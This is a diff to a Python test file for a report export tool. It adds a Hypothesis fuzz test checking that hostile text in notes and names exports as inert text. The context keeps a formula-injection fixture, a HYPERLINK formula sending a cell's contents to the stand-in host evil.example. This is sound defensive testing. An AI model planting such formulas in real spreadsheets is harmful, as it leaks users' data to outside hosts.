@@ -15,6 +15,8 @@ import zipfile
 
 import docx
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from openpyxl import load_workbook
 from sqlalchemy import select
@@ -27,6 +29,7 @@ from storage.plans.importer import import_plan_file
 from tests.bot.render.conftest import HANOI, JUNE_2021, TODAY, at
 from tests.conftest import SAMPLE_PLAN
 from tests.factories import make_member, make_update
+from tests.faults.exports import check_all_formats, hostile_text, plant
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")',
@@ -220,3 +223,21 @@ def test_the_cli_report_writes_hostile_rows_as_inert_text(cli_database, tmp_path
         text = content.decode("utf-8-sig")
         assert text.count("xy") == len(XML_INVALID)
         assert not any(bad in text for bad in XML_INVALID)
+
+
+# ---------------------------------------------------------------- fuzzed
+
+
+async def test_any_hostile_text_in_notes_names_and_agencies_gives_files_that_open_as_text(sample):
+    # A few examples here; bench/bench_fuzz.py runs hundreds.
+    found: list[str] = []
+
+    @settings(max_examples=12, deadline=None, database=None, suppress_health_check=list(HealthCheck))
+    @given(st.lists(hostile_text, min_size=1, max_size=3), hostile_text, hostile_text)
+    def every_format(notes, name, agency_name):
+        plant(sample.summary, notes, name, agency_name)
+        found.extend(check_all_formats(sample.summary))
+
+    every_format()
+
+    assert found == []
